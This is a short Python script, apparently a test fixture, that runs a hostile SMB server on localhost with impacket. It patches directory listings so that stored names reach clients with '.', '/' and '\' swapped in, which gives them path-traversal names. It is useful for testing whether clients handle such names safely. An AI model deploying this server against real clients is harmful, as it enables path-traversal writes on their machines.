#!/usr/bin/python3
"""A server that lists names which lead elsewhere: impacket's smbserver, with some characters of its listings exchanged.

usage: hostile_server.py PORT FOLDER

On disk a name has @ for '.', # for '/' and ^ for '\\'; a client sees the real characters. User root, password secret.
"""
import logging
import sys

from impacket import smbserver
from impacket.ntlm import compute_lmhash, compute_nthash

EXCHANGED = {"@": ".", "#": "/", "^": "\\"}
honest = smbserver.SMB2Commands.smb2QueryDirectory


def lying(*arguments):
    commands, packets, status = honest(*arguments)
    data = commands[0]["Buffer"] if "Buffer" in commands[0].fields else b""
    for there, here in EXCHANGED.items():
        data = data.replace(there.encode("utf-16le"), here.encode("utf-16le"))
    if data:
        commands[0]["Buffer"] = data
    return commands, packets, status


def main():
    smbserver.SMB2Commands.smb2QueryDirectory = staticmethod(lying)
    logging.disable(logging.CRITICAL)
    server = smbserver.SimpleSMBServer(listenAddress="127.0.0.1", listenPort=int(sys.argv[1]))
    server.addShare("DATA", sys.argv[2], readOnly="no")
    server.addCredential("root", 0, compute_lmhash("secret"), compute_nthash("secret"))
    server.setSMB2Support(True)
    server.setSMBChallenge("")
    server.start()


if __name__ == "__main__":
    main()
